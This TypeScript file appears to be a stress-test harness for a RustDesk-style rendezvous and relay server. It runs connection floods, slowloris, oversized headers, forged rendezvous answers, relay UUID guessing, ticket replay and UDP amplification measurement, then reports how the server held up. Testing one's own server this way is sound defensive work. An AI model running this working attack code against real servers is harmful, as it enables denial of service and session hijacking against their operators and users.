/**
 * Everything at once against one server, from many addresses of this host: `node attacker.ts '<AttackOptions as JSON>'`.
 * Prints `{"event":"ready"}` when all of it runs and `slow-gone` when the server has got rid of the first slow ones, goes on
 * until stdin ends, and then prints what it got out of the server.
 * With `amplification` it only measures the bytes that come back for those sent, from a fresh address for each request.
 */
import { randomBytes, randomInt, randomUUID } from 'node:crypto';
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { decodeRendezvous, encodeFrame, encodeRendezvous, FrameDecoder, type hbb, mangleAddress } from '../../src/core/wire/index.ts';

export interface AttackOptions {
  readonly amplification?: boolean;
  readonly server: string;
  readonly key: string;
  /** `10.66` for 10.66.0.0/16, all of which are this host's. */
  readonly network: string;
  /** The peer that legitimate controllers connect to, and where such a controller seems to come from. */
  readonly id: string;
  readonly controller: string;
}

export interface AttackReport {
  readonly halfOpen: number;
  readonly halfOpenAgain: number;
  readonly halfOpenStanding: number;
  readonly giantsStanding: number;
  readonly forged: number;
  readonly guesses: number;
  /** Bytes that came back to guesses of uuids, and to tickets that were shown before. */
  readonly guessedBytes: number;
  readonly replays: number;
  readonly replayedBytes: number;
}

const options = JSON.parse(process.argv[2] ?? '{}') as AttackOptions;
const { server, key, network, id, controller } = options;
const PORTS = [21115, 21116, 21117, 21118, 21119] as const;
const [RENDEZVOUS, RELAY] = [21116, 21117];
const say = (line: object): boolean => process.stdout.write(`${JSON.stringify(line)}\n`);

const all = new Set<Socket>();
let received = 0;
/** Null where the server, or its backlog, does not take it. */
async function open(port: number, from: string): Promise<Socket | null> {
  const socket = connect({ host: server, port, localAddress: from });
  socket.on('error', () => {});
  all.add(socket);
  socket.once('close', () => all.delete(socket));
  return new Promise((resolve) => socket.once('connect', () => resolve(socket)).once('close', () => resolve(null)));
}
const standing = (list: readonly (Socket | null)[]): number => list.filter((socket) => socket !== null && !socket.destroyed).length;
const pause = (ms: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, ms));
/** However it ends; `once` of node:events would fail for one that the server resets. */
const closed = (socket: Socket | null): Promise<void> =>
  new Promise((resolve) => (socket === null || socket.destroyed ? resolve() : socket.once('close', () => resolve())));

const ADDRESSES = 16;
const HALF_OPEN = 5_000;
const place = (i: number): [number, string] => [PORTS[i % PORTS.length] ?? RENDEZVOUS, `${network}.1.${1 + (i % ADDRESSES)}`];
let again = 0;
async function halfOpen(): Promise<(Socket | null)[]> {
  const list: (Socket | null)[] = [];
  for (let i = 0; i < HALF_OPEN; i += 100)
    list.push(...(await Promise.all(Array.from({ length: 100 }, (_, j) => open(...place(i + j))))));
  for (const socket of list) socket?.resume();
  // Those that the server ends come back.
  setInterval(() => {
    const gone = list.flatMap((socket, i) => (socket === null || socket.destroyed ? [i] : [])).slice(0, 20);
    for (const i of gone)
      void open(...place(i)).then((socket) => {
        list[i] = socket?.resume() ?? null;
        again++;
      });
  }, 100).unref();
  return list;
}

const SLOW_PER_PORT = 40;
/** A byte at a time of a frame, or of a WebSocket handshake, that never ends. */
async function slowLoris(): Promise<(Socket | null)[]> {
  const list = await Promise.all(PORTS.flatMap((port) => Array.from({ length: SLOW_PER_PORT }, (_, i) => open(port, `${network}.2.${1 + (i % 4)}`))));
  for (const [i, socket] of list.entries()) {
    const web = (PORTS[Math.floor(i / SLOW_PER_PORT)] ?? 0) > RELAY;
    socket?.write(web ? 'GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ' : Buffer.from([0x21, 0x03, 0x32]));
    socket?.resume();
  }
  setInterval(() => {
    for (const socket of list) if (socket?.writable) socket.write('a');
  }, 250).unref();
  void Promise.all(list.map(closed)).then(() => say({ event: 'slow-gone' }));
  return list;
}

/** Headers that announce a gigabyte, and some of it. */
async function giants(): Promise<(Socket | null)[]> {
  const list = await Promise.all(PORTS.flatMap((port) => Array.from({ length: 20 }, (_, i) => open(port, `${network}.3.${1 + (i % 4)}`))));
  const some = randomBytes(64 * 1024);
  for (const [i, socket] of list.entries()) {
    const port = PORTS[Math.floor(i / 20)] ?? 0;
    if (port > RELAY) socket?.write('GET / HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n');
    socket?.write(port > RELAY ? Buffer.from([0x82, 0xff, 0, 0, 0, 0, 0x40, 0, 0, 0, 1, 2, 3, 4]) : Buffer.from([0xff, 0xff, 0xff, 0xff]));
    for (let part = 0; part < 16; part++) socket?.write(some);
    socket?.resume();
  }
  return list;
}

function forgedAnswer(): hbb.IRendezvousMessage {
  const socketAddr = mangleAddress({ host: controller, port: randomInt(1_024, 65_535) }, randomInt(1, 2 ** 31));
  const kind = randomInt(3);
  if (kind === 0) return { punchHoleSent: { socketAddr, id, version: '1.4.9', relayServer: '203.0.113.66' } };
  if (kind === 1) return { localAddr: { socketAddr, id, localAddr: socketAddr, version: '1.4.9' } };
  return { relayResponse: { socketAddr, id, uuid: randomUUID(), relayServer: '203.0.113.66', version: '1.4.9' } };
}

let forged = 0;
async function forge(): Promise<void> {
  const udp = createSocket('udp4');
  udp.on('error', () => {});
  udp.bind({ address: `${network}.4.1` });
  await once(udp, 'listening');
  setInterval(() => {
    for (let i = 0; i < 50; i++) udp.send(encodeRendezvous(forgedAnswer()), RENDEZVOUS, server);
    forged += 50;
  }, 10).unref();
  const lane = async (n: number): Promise<never> => {
    for (;;) {
      const socket = await open(RENDEZVOUS, `${network}.4.${2 + n}`);
      for (let i = 0; i < 50; i++) socket?.write(encodeFrame(encodeRendezvous(forgedAnswer())));
      forged += socket ? 50 : 0;
      await pause(100);
      socket?.destroy();
    }
  };
  for (let n = 0; n < 4; n++) void lane(n);
}

let guesses = 0;
/** As a peer at the relay, with the right key and uuids that nobody was given. */
function guess(): void {
  const lane = async (n: number): Promise<never> => {
    for (;;) {
      const socket = await open(RELAY, `${network}.5.${1 + n}`);
      socket?.on('data', (chunk) => (received += chunk.length));
      socket?.write(Buffer.concat([encodeFrame(encodeRendezvous({ requestRelay: { uuid: randomUUID(), licenceKey: key } })), Buffer.from('early')]));
      guesses += socket ? 1 : 0;
      await pause(20);
    }
  };
  for (let n = 0; n < 8; n++) void lane(n);
}

let replays = 0;
let replayed = 0;
/** A ticket that was given to us for one session with the peer, and used. */
async function replay(): Promise<void> {
  const asking = await open(RENDEZVOUS, `${network}.6.1`);
  if (!asking) throw new Error('no connection to ask for a relay');
  const uuid = randomUUID();
  const decoder = new FrameDecoder();
  asking.write(encodeFrame(encodeRendezvous({ requestRelay: { id, uuid, secure: true, licenceKey: key, relayServer: server, wantTicket: true } })));
  let ticket: Uint8Array | undefined;
  for await (const chunk of asking) {
    for (const payload of decoder.push(chunk as Buffer)) ticket ??= decodeRendezvous(payload).relayResponse?.relayTicket ?? undefined;
    if (ticket) break;
  }
  if (!ticket?.length) throw new Error('the server gives no ticket');
  const show = async (uuidShown: string): Promise<Socket | null> => {
    const socket = await open(RELAY, `${network}.6.1`);
    socket?.write(encodeFrame(encodeRendezvous({ requestRelay: { uuid: uuidShown, licenceKey: key, relayTicket: ticket } })));
    return socket;
  };
  const first = await show(uuid);
  if (!first) throw new Error('no connection to the relay');
  // The peer speaks first (the key exchange): the ticket was good.
  await Promise.race([once(first, 'data'), closed(first).then(() => Promise.reject(new Error('a fresh ticket was refused')))]);
  const showAgain = async (): Promise<never> => {
    for (let i = 0; ; i++) {
      const socket = await show(i % 2 ? uuid : randomUUID());
      socket?.on('data', (chunk: Buffer) => (replayed += chunk.length));
      replays += socket ? 1 : 0;
      await pause(20);
      if (i === 5) first.destroy();
    }
  };
  void showAgain();
}

const UUID = new Uint8Array(Buffer.from('0123456789abcdef0123456789abcdef'));
const REQUESTS: Record<string, hbb.IRendezvousMessage> = {
  'RegisterPeer, shortest': { registerPeer: { id: 'a' } },
  'RegisterPeer, nine digits': { registerPeer: { id: '987654321', serial: 3 } },
  'RegisterPeer, of another': { registerPeer: { id } },
  'RegisterPk, shortest': { registerPk: { id: '', uuid: new Uint8Array(1), pk: new Uint8Array(1) } },
  'RegisterPk, new': { registerPk: { id: 'newcomer1', uuid: UUID, pk: new Uint8Array(32).fill(7) } },
  'RegisterPk, of another': { registerPk: { id, uuid: UUID, pk: new Uint8Array(32).fill(7) } },
  TestNatRequest: { testNatRequest: {} },
  'TestNatRequest, padded': { testNatRequest: { serial: -1 } },
  SoftwareUpdate: { softwareUpdate: {} },
  ConfigUpdate: { configureUpdate: { serial: 99, rendezvousServers: ['x'] } },
  PunchHoleRequest: { punchHoleRequest: { id, version: '1.4.9', licenceKey: key } },
  PunchHoleSent: forgedAnswer(),
  RequestRelay: { requestRelay: { id, uuid: 'u', licenceKey: key } },
  OnlineRequest: { onlineRequest: { peers: [id] } },
  KeyExchange: { keyExchange: { keys: [new Uint8Array(32)] } },
  HealthCheck: { hc: { token: 't' } },
  PeerDiscovery: { peerDiscovery: { cmd: 'ping' } },
};

/** Silence after which nothing more is taken to come. */
const QUIET_MS = 1_000;
async function amplification(): Promise<void> {
  const one = async (name: string, i: number, copies: number): Promise<void> => {
    const socket = createSocket('udp4');
    let back = 0;
    socket.on('message', (bytes) => (back += bytes.length));
    socket.bind({ address: `${network}.${100 + copies}.${1 + i}` });
    await once(socket, 'listening');
    const bytes = encodeRendezvous(REQUESTS[name] ?? {});
    for (let n = 0; n < copies; n++) socket.send(bytes, RENDEZVOUS, server);
    await pause(QUIET_MS);
    socket.close();
    say({ event: 'factor', name, copies, sent: bytes.length * copies, back });
  };
  await Promise.all(Object.keys(REQUESTS).flatMap((name, i) => [1, 2, 100].map((copies) => one(name, i, copies))));
}

if (options.amplification) await amplification();
else {
  await replay();
  const [silent, giant] = [await halfOpen(), await giants(), await slowLoris()];
  await forge();
  guess();
  say({ event: 'ready' });
  process.stdin.resume();
  await once(process.stdin, 'end');
  const report: AttackReport = {
    halfOpen: silent.length,
    halfOpenAgain: again,
    halfOpenStanding: standing(silent),
    giantsStanding: standing(giant),
    forged,
    guesses,
    guessedBytes: received,
    replays,
    replayedBytes: replayed,
  };
  say({ event: 'report', ...report });
  for (const socket of all) socket.resetAndDestroy();
  process.exit(0);
}
